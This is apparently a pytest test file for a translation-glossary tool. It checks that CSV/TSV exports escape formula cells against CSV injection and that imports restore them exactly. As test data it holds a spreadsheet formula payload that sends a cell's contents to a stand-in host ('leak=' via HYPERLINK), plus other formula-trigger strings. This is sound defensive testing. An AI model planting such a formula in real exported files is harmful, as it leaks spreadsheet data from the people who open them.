"""CSV and TSV exports never hand a spreadsheet a formula (OWASP "CSV Injection":
cells starting with = + - @ tab or carriage return get a leading '), and reading
removes exactly that quote again, so export -> import gives every cell back."""

import csv
import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.glossary import load_glossary
from pipeline.glossary.base import GlossaryEntry
from pipeline.glossary.edit import add_entry
from pipeline.glossary.formats import read_glossary_file, write_glossary_bytes
from pipeline.glossary.formats.rows import FORMULA_TRIGGERS, formula_safe, formula_text
from tests.conftest import ROOT
from tests.test_cli import briefing

# The command runs in a temporary folder: import this checkout's pipeline, not an installed one.
THIS_CHECKOUT = {"PYTHONPATH": str(ROOT)}

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'

# (the cell's text, the cell as written): triggers get one quote; quotes before a
# trigger get one more; anything else is written as it is.
CASES = [
    (HYPERLINK, "'" + HYPERLINK),
    ("+886 2 1234", "'+886 2 1234"),
    ("-3.5%", "'-3.5%"),
    ("-", "'-"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("=台積電", "'=台積電"),
    ("\tcmd", "'\tcmd"),
    ("\r=x", "'\r=x"),
    ("'=x", "''=x"),
    ("''+1", "'''+1"),
    ("'", "'"),
    ("'hello", "'hello"),
    ("''", "''"),
    ("don't = do", "don't = do"),
    ("＝台積電", "＝台積電"),  # a full-width equals sign is text to a spreadsheet
    ("3-5%", "3-5%"),
    ("", ""),
]


@pytest.mark.parametrize("text, written", CASES)
def test_the_cell_as_written_and_read_back(text, written):
    assert formula_safe(text) == written
    assert formula_text(written) == text


def test_a_quoted_cell_that_is_not_an_escape_is_read_as_it_is():
    for cell in ("'hello", "'", "''", "'3", "'＝x", "rock 'n' roll"):
        assert formula_text(cell) == cell


# Text rich in what the rule is about: quotes, triggers, and any other character.
_TRICKY = st.text(st.sampled_from(list(FORMULA_TRIGGERS + "'\" ,|#x台")) | st.characters(), max_size=12)


@given(_TRICKY)
def test_any_text_survives_the_escape_exactly(text):
    written = formula_safe(text)
    assert formula_text(written) == text
    assert not written or written[0] not in FORMULA_TRIGGERS


def cells(data: bytes, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("kind, delimiter", [("csv", ","), ("tsv", "\t")])
def test_export_prefixes_every_formula_cell_and_import_restores_it(tmp_path, kind, delimiter):
    entries = [GlossaryEntry("台積電", HYPERLINK, aliases=("=台積",), note="-3.5%", category="@corp"),
               GlossaryEntry("減", "-", note="'=already quoted", variants=("+minus",)),
               GlossaryEntry("鴻海", "Hon Hai", note="don't = change"),
               GlossaryEntry("'=零", "'zero", not_in=("-號",), requires=("=需",)),
               # a bare carriage return would end the row for a reader and start a formula line
               GlossaryEntry("回車", "CR", note="one\r=SUM(A1)\r\ntwo")]
    data = write_glossary_bytes(entries, kind)
    rows = cells(data, delimiter)
    assert rows[1][:2] == ["台積電", "'" + HYPERLINK]
    assert all(not cell or cell[0] not in FORMULA_TRIGGERS for row in rows for cell in row)
    assert "'-3.5%" in rows[1] and "''=already quoted" in rows[2] and "don't = change" in rows[3]
    assert rows[4][:2] == ["''=零", "'zero"]
    assert len(rows) == 1 + len(entries) and rows[5][4] == "one\r=SUM(A1)\r\ntwo"
    path = tmp_path / f"g.{kind}"
    path.write_bytes(data)
    back, problems = read_glossary_file(path)
    assert problems == []
    assert back == [GlossaryEntry(e.source, e.target, e.aliases, e.category, e.note, str(path), line,
                                  variants=e.variants, not_in=e.not_in, requires=e.requires)
                    for line, e in enumerate(entries, start=2)]


# Entries whose every field may start with quotes and triggers (stripped and non-empty,
# as a glossary holds them; list items without the | separator).
_FIELD = st.text(st.sampled_from(list("=+-@'\"x台 ,\t\r\n")), min_size=1, max_size=8).map(str.strip).filter(bool)
_ITEM = _FIELD.map(lambda s: s.replace("|", "/")).filter(bool)


@st.composite
def hostile_entries(draw):
    return GlossaryEntry(draw(_FIELD.filter(lambda s: not s.startswith("#"))), draw(_FIELD),
                         tuple(draw(st.lists(_ITEM, unique=True, max_size=2))),
                         draw(st.one_of(st.just(""), _FIELD)), draw(st.one_of(st.just(""), _FIELD)),
                         variants=tuple(draw(st.lists(_ITEM, unique=True, max_size=2))))


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(hostile_entries(), min_size=1, max_size=4))
def test_generated_hostile_glossaries_round_trip_exactly(tmp_path_factory, entries):
    folder = tmp_path_factory.mktemp("formula")
    for kind, delimiter in (("csv", ","), ("tsv", "\t")):
        data = write_glossary_bytes(entries, kind)
        assert all(not cell or cell[0] not in FORMULA_TRIGGERS for row in cells(data, delimiter) for cell in row)
        path = folder / f"g.{kind}"
        path.write_bytes(data)
        back, problems = read_glossary_file(path)
        assert problems == []
        fields = ("source", "target", "aliases", "category", "note", "variants")
        assert [tuple(getattr(e, f) for f in fields) for e in back] == \
               [tuple(getattr(e, f) for f in fields) for e in entries]


def test_glossary_add_writes_the_same_escape_and_reads_back_exactly(tmp_path):
    path = tmp_path / "g.csv"
    path.write_text("source,target,note\n鴻海,Hon Hai,\n", encoding="utf-8")
    add_entry(path, "台積電", HYPERLINK, note="'-3.5%")
    assert path.read_text(encoding="utf-8").splitlines()[-1] == f"台積電,\"'{HYPERLINK.replace(chr(34), 2 * chr(34))}\",''-3.5%"
    entry = load_glossary([path]).entries[-1]
    assert (entry.target, entry.note) == (HYPERLINK, "'-3.5%")


def test_a_hostile_tbx_imported_and_exported_through_the_command_line_holds_no_formula(tmp_path):
    (tmp_path / "glossary").mkdir()
    entries = [GlossaryEntry("台積電", HYPERLINK, note="-3.5%"), GlossaryEntry("減", "-")]
    (tmp_path / "outside.tbx").write_bytes(write_glossary_bytes(entries, "tbx"))
    out = briefing("glossary", "import", "outside.tbx", "--output", "glossary/terms.csv", cwd=tmp_path,
                   env_extra=THIS_CHECKOUT)
    assert out.returncode == 0, out.stderr
    out = briefing("glossary", "export", "--format", "csv", "--output", "shared.csv", cwd=tmp_path,
                   env_extra=THIS_CHECKOUT)
    assert out.returncode == 0, out.stderr
    for name in ("glossary/terms.csv", "shared.csv"):
        rows = cells((tmp_path / name).read_bytes(), ",")
        assert [row[:2] for row in rows[1:]] == [["台積電", "'" + HYPERLINK], ["減", "'-"]], name
        assert "'-3.5%" in rows[1], name
        back = load_glossary([tmp_path / name])  # as --glossary reads it
        assert [(e.source, e.target, e.note) for e in back.entries] == [
            ("台積電", HYPERLINK, "-3.5%"), ("減", "-", "")], name


def test_xlsx_keeps_a_formula_as_text_without_a_quote(tmp_path):
    # openpyxl would store a string starting with '=' as a formula; the writer marks every
    # cell as a string, so Excel shows the text and nothing needs escaping.
    import openpyxl

    path = tmp_path / "g.xlsx"
    path.write_bytes(write_glossary_bytes([GlossaryEntry("台積電", HYPERLINK, note="-3.5%")], "xlsx"))
    sheet = openpyxl.load_workbook(path).worksheets[0]
    target, note = sheet[2][1], sheet[2][4]
    assert [(target.value, target.data_type), (note.value, note.data_type)] == [(HYPERLINK, "s"), ("-3.5%", "s")]
    (entry,), problems = read_glossary_file(path)
    assert (entry.target, entry.note, problems) == (HYPERLINK, "-3.5%", [])
